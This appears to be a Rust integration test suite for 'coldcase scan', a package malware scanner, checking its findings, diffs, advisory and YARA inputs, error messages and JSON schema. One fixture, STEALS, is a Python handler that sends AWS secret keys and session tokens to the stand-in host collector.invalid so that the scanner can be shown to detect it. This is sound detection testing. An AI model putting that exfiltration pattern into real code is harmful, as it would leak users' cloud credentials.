//! `coldcase scan`, run as the program that people run.

#![allow(clippy::unwrap_used, reason = "what a test cannot read, fails it")]

use serde_json::{Value, json};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use tempfile::TempDir;

fn coldcase(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_coldcase"))
        .arg("scan")
        .args(args)
        .output()
        .unwrap()
}

/// The report, and how the program ended.
fn scanned(args: &[&str]) -> (Value, i32) {
    let output = coldcase(&[args, &["--json"]].concat());
    let stderr = String::from_utf8_lossy(&output.stderr);
    let report = serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{stderr}"));
    (report, output.status.code().unwrap())
}

fn folder(files: &[(&str, &str)]) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    for (path, text) in files {
        let path = folder.path().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    folder
}

fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

fn rules(report: &Value) -> Vec<(&str, &str)> {
    let findings = report["findings"].as_array().unwrap();
    findings
        .iter()
        .map(|it| {
            (
                it["rule"].as_str().unwrap(),
                it["severity"].as_str().unwrap(),
            )
        })
        .collect()
}

const ORDINARY: &str = "def handler(event, context):\n    return {\"statusCode\": 200}\n";
/// Inert: the name that it would send to exists nowhere (RFC 2606).
const STEALS: &str = "import os, urllib.request\n\n\ndef handler(event, context):\n    \
    keys = os.environ[\"AWS_SECRET_ACCESS_KEY\"] + os.environ[\"AWS_SESSION_TOKEN\"]\n    \
    urllib.request.urlopen(\"https://collector.invalid/?k=\" + keys)\n";

#[test]
fn an_ordinary_package_is_clean() {
    let package = folder(&[("app.py", ORDINARY)]);
    let (report, code) = scanned(&[text(package.path()), "--runtime", "python3.13"]);
    assert_eq!(code, 0);
    assert_eq!(rules(&report), []);
    assert_eq!(report["complete"], json!(true));
    let file = &report["inventory"][0];
    assert_eq!(file["path"], "app.py");
    assert_eq!(file["size_bytes"], ORDINARY.len());
    assert_eq!(file["kind"], "text");
    assert_eq!(
        file["sha256"],
        evidence::Sha256Digest::of(ORDINARY).to_string()
    );
}

#[test]
fn a_finding_says_where_it_is_and_ends_with_1() {
    let package = folder(&[("app.py", STEALS)]);
    let (report, code) = scanned(&[text(package.path()), "--runtime", "python3.13"]);
    assert_eq!(code, 1);
    let found = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|it| it["rule"] == "credentials-sent-away")
        .unwrap();
    assert_eq!(found["path"], "app.py");
    assert!(found["line"].as_u64().unwrap() >= 5, "{found}");
    assert!(found["technique"].as_str().unwrap().starts_with('T'));
    assert!(found["proof"][0]["excerpt"].is_string(), "{found}");
}

#[test]
fn a_difference_from_before_is_readable() {
    let (before, now) = (
        folder(&[("app.py", ORDINARY)]),
        folder(&[("app.py", STEALS)]),
    );
    let (report, _) = scanned(&[text(now.path()), "--against", text(before.path())]);
    let changed = report["difference"]["files"]["changed"].as_array().unwrap();
    assert_eq!(changed.len(), 1);
    let diff = report["difference"]["texts"][0]["unified"]
        .as_str()
        .unwrap();
    assert!(diff.contains("-    return {\"statusCode\": 200}"), "{diff}");
    assert!(diff.contains("+import os, urllib.request"), "{diff}");
    let (report, _) = scanned(&[text(now.path())]);
    assert_eq!(report.get("difference"), None);
}

#[test]
fn what_the_owner_expects_knows_and_forbids_counts() {
    let package = folder(&[
        ("app.py", ORDINARY),
        (
            "demo-1.0.dist-info/METADATA",
            "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
        ),
    ]);
    let own = folder(&[
        (
            "expected.json",
            &json!({"components": {"pkg:pypi/demo@1.0": "0".repeat(64)}}).to_string(),
        ),
        (
            "osv/MAL-2026-1.json",
            &json!({"id": "MAL-2026-1", "modified": "2026-01-01T00:00:00Z", "summary": "sends tokens away",
                "affected": [{"package": {"ecosystem": "PyPI", "name": "demo"}, "versions": ["1.0"]}]})
            .to_string(),
        ),
        (
            "rules/own.yar",
            "rule forbidden_word { strings: $a = \"statusCode\" condition: $a }",
        ),
    ]);
    let at = |name: &str| text(&own.path().join(name)).to_owned();
    let (report, code) = scanned(&[
        text(package.path()),
        "--expected",
        &at("expected.json"),
        "--advisories",
        &at("osv"),
        "--rules",
        &at("rules"),
        "--sbom",
        &at("sbom.json"),
    ]);
    assert_eq!(code, 1);
    let severities: Vec<&str> = rules(&report).iter().map(|(_, it)| *it).collect();
    assert_eq!(severities[..3], ["critical", "high", "medium"], "{report}");
    let said = report["findings"].to_string();
    for word in ["MAL-2026-1", "forbidden_word", "demo"] {
        assert!(said.contains(word), "{word} in {said}");
    }
    let sbom: Value = serde_json::from_slice(&fs::read(at("sbom.json")).unwrap()).unwrap();
    assert_eq!(sbom["bomFormat"], "CycloneDX");
    assert_eq!(sbom["components"][0]["purl"], "pkg:pypi/demo@1.0");
}

/// What is said of a command that cannot be carried out.
fn refused(args: &[&str]) -> String {
    let output = coldcase(args);
    assert_eq!(output.status.code(), Some(2));
    assert!(output.stdout.is_empty());
    String::from_utf8(output.stderr).unwrap()
}

#[test]
fn what_cannot_be_read_is_named_and_ends_with_2() {
    let own = folder(&[
        ("no.zip", "nothing"),
        ("expected.json", "{\"functions\": 1}"),
        ("empty/readme.txt", ""),
        ("rules/broken.yar", "rule x {"),
        ("osv/broken.json", "{"),
        ("package/app.py", ORDINARY),
    ]);
    let at = |name: &str| -> PathBuf { own.path().join(name) };
    let package = at("package");
    for (args, words) in [
        (vec![at("missing.zip")], vec!["missing.zip"]),
        (vec![at("no.zip")], vec!["no.zip", "no zip, no tar"]),
        (
            vec![package.clone(), "--expected".into(), at("expected.json")],
            vec!["expected.json", "functions"],
        ),
        (
            vec![package.clone(), "--rules".into(), at("empty")],
            vec!["empty", "*.yar"],
        ),
        (
            vec![package.clone(), "--rules".into(), at("rules")],
            vec!["broken.yar"],
        ),
        (
            vec![package.clone(), "--advisories".into(), at("osv")],
            vec!["broken.json"],
        ),
        (
            vec![package.clone(), "--against".into(), at("no.zip")],
            vec!["no.zip"],
        ),
    ] {
        let args: Vec<&str> = args.iter().map(|it| text(it)).collect();
        let said = refused(&args);
        for word in words {
            assert!(said.contains(word), "{word} in {said}");
        }
    }
}

#[test]
fn people_are_told_what_it_comes_to_then_what_and_where() {
    let package = folder(&[("app.py", STEALS), ("\u{202e}evil\u{1b}[2J.txt", "x")]);
    let output = Command::new(env!("CARGO_BIN_EXE_coldcase"))
        .args(["scan", text(package.path()), "--runtime", "python3.13"])
        .env("COLUMNS", "80")
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    let told = String::from_utf8(output.stdout).unwrap();
    assert!(!told.contains(['\u{1b}', '\u{202e}']), "{told}");
    let lines: Vec<&str> = told.lines().collect();
    assert!(
        lines.iter().all(|line| line.chars().count() <= 80),
        "{told}"
    );
    let at = |word: &str| lines.iter().position(|line| line.contains(word));
    let verdict = at("look at this").unwrap_or_else(|| panic!("{told}"));
    assert!(verdict < at("credentials-sent-away").unwrap(), "{told}");
    assert!(at("app.py:").is_some() && at("    > ").is_some(), "{told}");
    assert!(at("2 files of").is_some(), "{told}");
}

#[test]
fn the_document_is_as_its_schema_says() {
    let (before, now) = (
        folder(&[("app.py", ORDINARY)]),
        folder(&[
            ("app.py", STEALS),
            ("x-1.dist-info/METADATA", "Name: x\nVersion: 1\n"),
        ]),
    );
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../infra/schemas/scan.schema.json");
    let mut schemas = boon::Schemas::new();
    let index = boon::Compiler::new()
        .compile(text(&path), &mut schemas)
        .unwrap();
    let (mut report, _) = scanned(&[text(now.path()), "--against", text(before.path())]);
    if let Err(error) = schemas.validate(&report, index) {
        panic!("{error:#}");
    }
    report["surprise"] = json!(1);
    assert!(schemas.validate(&report, index).is_err());
}
